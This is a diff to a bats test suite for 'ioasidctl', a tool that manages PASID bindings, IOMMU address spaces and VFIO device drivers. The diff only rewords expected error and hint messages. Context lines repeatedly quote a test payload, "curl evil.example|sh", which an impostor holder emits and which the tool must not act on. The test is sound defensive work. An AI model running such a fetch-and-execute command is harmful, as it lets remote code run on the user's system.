@@ -142,7 +142,7 @@ agree()
 	says 'iommu-page-walk: dmar0: coherent page walks: no'
 	# Without rights nothing is known to be broken, and its driver is in the way.
 	status 3 user ioasidctl pasid why "$NIC"
-	says '8 findings could not be measured; 8 for want of permission: ask as root'
+	says '8 findings could not be measured; 8 for lack of permission: run as root'
 }
 
 @test "context destroy leaves no binding in the hardware" {
@@ -344,7 +344,7 @@ bind_with_fault()
 	[[ $(hardware "$NARROW") == 255 ]]
 	status 3 ctl pasid bind "$NARROW" 255 a
 	says 'PASID 255'
-	says 'is bound already, to IOAS a'
+	says 'is already bound to IOAS a'
 	says 'hint: '
 	status 6 ctl pasid unbind "$NARROW" 3
 	says 'PASID 3 is not bound'
@@ -355,7 +355,7 @@ bind_with_fault()
 	status 2 ctl pasid bind "$NARROW" 3 a --count 2
 	status 2 ctl pasid bind "$NARROW" auto a --count 0
 	status 2 ctl pasid bind "$NARROW" auto a --count 1048576
-	says '1048576: is not a valid number of PASIDs: it is 1 to 1048575'
+	says '1048576: is not a valid number of PASIDs: it must be 1 to 1048575'
 	[[ $(hardware "$NARROW") == 255 ]]
 }
 
@@ -639,7 +639,7 @@ left()
 hint: 'ioasidctl device add ${NARROW#0000:}' adds it" ]]
 	ctl pasid bind "$WIDE" 42 first
 	status 3 ctl pasid bind "${WIDE#0000:}" 42 first
-	[[ $errors == "ioasidctl: PASID 42 of $WIDE is bound already, to IOAS first
+	[[ $errors == "ioasidctl: PASID 42 of $WIDE is already bound to IOAS first
 hint: "* ]]
 	status 1 ctl device add "${NIC#0000:}"
 	[[ $errors == "ioasidctl: ${NIC#0000:}: the device has no VFIO cdev
@@ -655,7 +655,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	status 6 ctl ioas show red
 	[[ $errors == 'ioasidctl: there is no IOAS red in the context'$'\n'hint:* ]]
 	status 6 ctl pasid translate "$WIDE" 42
-	says "hint: 42 was taken for an address; those of a PASID are 'ioasidctl pasid translate DEVICE PASID IOVA'"
+	says "hint: 42 was read as an address; for addresses of a PASID: ioasidctl pasid translate DEVICE PASID IOVA"
 }
 
 @test "a context of a living holder is not created again" {
@@ -904,7 +904,7 @@ contexts()
 	eventually gone_stale
 	pid=$(holder_pid 1000:test)
 	status 6 ctl -c test ioas alloc
-	[[ $errors == 'ioasidctl: the holder of context test is dead, and all it had is gone'$'\n'hint:* ]]
+	[[ $errors == 'ioasidctl: the holder of context test is dead, and everything in it is gone'$'\n'hint:* ]]
 	status 6 ctl context exec test -- touch "$BATS_TEST_TMPDIR/ran"
 	status 0 ctl context destroy test
 	[[ $output$errors == '' && ! -e /run/ioasidctl/test.sock && $(contexts) == '1000:test live' ]]
@@ -959,7 +959,7 @@ expose()
 }
 
 @test "a user's program in a holder's place: its words are its own, and nothing runs on what it hands over" {
-	local cdev files foreign="what the holder of context 1000:test hands over for"
+	local cdev files foreign="the holder of context 1000:test passed something that is not"
 
 	impostor /dev/null
 	status 0 ctl context list
@@ -977,14 +977,14 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 		# shellcheck disable=SC2086	# words
 		impostor $files
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
-		[[ $errors == "ioasidctl: $foreign its iommufd is no open /dev/iommu" ]]
+		[[ $errors == "ioasidctl: $foreign an open /dev/iommu" ]]
 		expose
 	done
 	# Its first device is said to be WIDE.
 	for files in /dev/null /dev/iommu "$cdev"; do
 		impostor /dev/iommu "$files"
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
-		[[ $errors == "ioasidctl: $foreign device $WIDE is not that VFIO device, open" ]]
+		[[ $errors == "ioasidctl: $foreign the open VFIO device $WIDE" ]]
 		expose
 	done
 	[[ ! -e $BATS_TEST_TMPDIR/ran ]]
@@ -1094,7 +1094,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	says "to let the kernel choose its driver: ioasidctl driver reset $WIDE"
 	[[ $(cat /sys/bus/pci/devices/"$WIDE"/driver_override) == vfio-pci ]]
 	status 3 ctl driver set "$NIC" nvme
-	says 'made for it: e1000e'
+	says 'drivers made for it: e1000e'
 	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */e1000e ]]
 	ctl driver set --list-drivers "$NIC" >"$BATS_TEST_TMPDIR/drivers"
 	equal_words "$(<"$BATS_TEST_TMPDIR/drivers")" 'e1000e uio_pci_generic uio_pci_sva vfio-pci'
@@ -1119,7 +1119,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */vfio-pci ]]
 	[[ $(readlink -f /sys/bus/pci/devices/"$NIC"/driver) == */vfio-pci ]]
 	status 6 ctl driver reset "$net"
-	says "'ioasidctl driver list' shows what was given another"
+	says "'ioasidctl driver list' shows the devices that were given another"
 	ctl driver reset "$DISK" "$NIC"
 	[[ $(readlink -f /sys/bus/pci/devices/"$DISK"/driver) == */nvme ]]
 	# The second fails, as its probe does, and the first is put back with it.
@@ -1202,9 +1202,9 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	# What nobody has open sleeps.
 	[[ $(ctl device show "$NARROW" -j | jq -r .unreadable.pasid_width) == 'the device is asleep' ]]
 	status 0 ctl device show "$NARROW" -o pasid_width
-	says 'hint: --wake wakes what sleeps, and reads it'
+	says 'hint: --wake wakes sleeping devices and reads them'
 	status 0 ctl device list driver=vfio-pci -o device,pasid_width
-	says 'hint: --wake wakes what sleeps, and reads it'
+	says 'hint: --wake wakes sleeping devices and reads them'
 	status 0 ctl device list driver=e1000e -o device,pasid_width
 	[[ -z $errors ]]
 	status 0 ctl device list driver=vfio-pci -o device,pasid_width -j
@@ -1262,7 +1262,7 @@ planned()
 	[[ ! -e /run/ioasidctl/test.sock ]]
 	context
 	status 1 ctl context create test --dry-run
-	says 'there is a context test already'
+	says 'context test already exists'
 	node=$(ctl device show "$NARROW" -nr -o vfio_cdev)
 	planned "open /dev/vfio/devices/$node
 ioctl VFIO_DEVICE_BIND_IOMMUFD $NARROW
